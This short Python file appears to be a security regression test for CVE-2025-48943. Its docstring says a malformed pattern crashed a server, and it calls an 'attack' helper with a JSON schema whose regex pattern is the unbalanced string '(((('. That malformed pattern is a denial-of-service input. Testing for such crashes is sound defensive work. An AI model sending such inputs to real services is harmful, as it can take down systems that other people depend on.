"""CVE-2025-48943: a malformed pattern ended the server."""

from attacking import attack

attack(schema={"type": "string", "pattern": "(((("})
